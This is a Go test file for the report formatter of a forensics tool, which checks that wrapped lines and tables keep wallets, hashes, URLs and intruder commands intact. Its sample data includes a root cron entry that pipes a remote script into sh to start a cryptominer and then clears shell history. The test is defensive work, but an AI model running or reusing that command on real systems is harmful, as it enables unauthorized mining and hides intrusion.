package report

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"icecore/forensics/model/modeltest"
)

const (
	testWallet  = "4A1PHD6P8Nfc819wkGG4izEQhkmWZ4gPfcQcC8PD3PiMXPd5hmHjwP8MdiHnBWCxki22yogS76eYL2GMQvo1hDDiFxst7DL"
	testHash    = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
	testURL     = "http://203.0.113.77:8080/a/long/path/to/the/second-stage/kworker.tar.gz?id=0000&key=1111"
	testPrint   = "SHA256:rZ3/5C2l0xJ1+qk7bqA1eV1s9n5t0y/6lqvT4sQ9Yb0"
	testCommand = `curl -fsSL http://203.0.113.77/i.sh | sh -s -- --pool pool.example.invalid:3333 && history -c`
)

// What is copied from the screen stands whole in one line, however narrow the column:
// wallets, hashes, fingerprints and URLs.
func TestWrapKeepsWords(t *testing.T) {
	for _, word := range []string{testWallet, testHash, testURL, testPrint, "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "<" + testWallet + ">,", "user=" + testWallet + ".rig1"} {
		for width := 4; width < 120; width++ {
			lines := wrap("sends to "+word+" as of today", width)
			if !slices.ContainsFunc(lines, func(l string) bool { return strings.Contains(l, word) }) {
				t.Errorf("width %d: %s is broken: %q", width, word, lines)
			}
			for _, l := range lines {
				if cellWidth(l) > width && l != word {
					t.Errorf("width %d: %q", width, l)
				}
			}
		}
	}
	for _, c := range []struct {
		in    string
		width int
		want  string
	}{
		{"/var/log/journal/0123456789abcdef0123456789abcdef/system.journal", 20, "/var/log/journal/|0123456789abcdef0123456789abcdef/|system.journal"},
		{"ran " + keep("curl x | sh") + " twice", 8, "ran|curl x | sh|twice"},
		{"ran " + keep("curl x | sh") + " twice", 15, "ran curl x | sh|twice"},
		{testHash, 10, testHash},
		{testHash + " ", 10, testHash},
		{"a  " + testHash, 10, "a|" + testHash},
		{"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 20, "aaaaaaaaaaaaaaaaaaaa|aaaaaaaaaaaaaaaaaaaa"}, // no hash
		{"/usr/share/doc/package", 12, "/usr/share/|doc/package"},
	} {
		if got := strings.Join(wrap(c.in, c.width), "|"); got != c.want {
			t.Errorf("wrap(%q, %d) = %q, want %q", c.in, c.width, got, c.want)
		}
	}
}

// In a table, a word that is wider than its column has a line for itself; nothing else
// is wider than the screen, and all cells keep their order.
func TestTableKeepsWords(t *testing.T) {
	rows := [][]string{
		{"high", "one\ntwo\nthree", "before " + testWallet + " behind"},
		{testURL, "x", "y"},
		{"low", "a " + testHash + " b\nc", testWallet},
	}
	for width := 30; width < 260; width++ {
		var b bytes.Buffer
		if err := Table(&b, []string{"level", "what", "where"}, rows, width); err != nil {
			t.Fatal(err)
		}
		for _, word := range []string{testWallet, testHash, testURL} {
			if strings.Count(b.String(), word) != strings.Count(strings.Join(slices.Concat(rows...), " "), word) {
				t.Errorf("width %d: %s is broken:\n%s", width, word, b.String())
			}
		}
		for _, l := range strings.Split(b.String(), "\n") {
			if cellWidth(l) > width && len(strings.Fields(l)) != 1 {
				t.Errorf("%d of %d columns: %q", cellWidth(l), width, l)
			}
		}
		at := 0
		for _, w := range []string{"before", testWallet, "behind", testURL, "low", testHash} {
			i := strings.Index(b.String()[at:], w)
			if i < 0 {
				t.Fatalf("width %d: %s does not stand behind the other:\n%s", width, w, b.String())
			}
			at += i
		}
	}
}

// Of an intrusion the screen holds the wallet and the intruder's commands whole.
func TestTerminalKeepsWords(t *testing.T) {
	a := intrusion()
	a.Findings[3].Excerpt = "* * * * * root " + testCommand
	for i := range a.Records {
		if a.Records[i].ID == a.Findings[3].Records[0] {
			a.Records[i].Fields = modeltest.Fields("cron.job", "command="+testCommand)
		}
	}
	for width := 40; width <= 200; width += 3 {
		for _, color := range []bool{false, true} {
			var b bytes.Buffer
			if err := Terminal(&b, a, Options{Width: width, Color: color}); err != nil {
				t.Fatal(err)
			}
			first, rest, _ := strings.Cut(b.String(), "FINDINGS")
			for where, s := range map[string]string{"the first screen": first, "what follows": rest} {
				if !strings.Contains(s, testWallet) {
					t.Errorf("width %d: %s breaks the wallet:\n%s", width, where, s)
				}
			}
			if !strings.Contains(rest, testCommand) {
				t.Errorf("width %d: the command is broken:\n%s", width, rest)
			}
			if !strings.Contains(rest, "icecore analyze --format json") ||
				!strings.Contains(rest, "icecore analyze -o DIR") {
				t.Errorf("width %d: icecore's own commands are broken:\n%s", width, rest)
			}
		}
	}
}
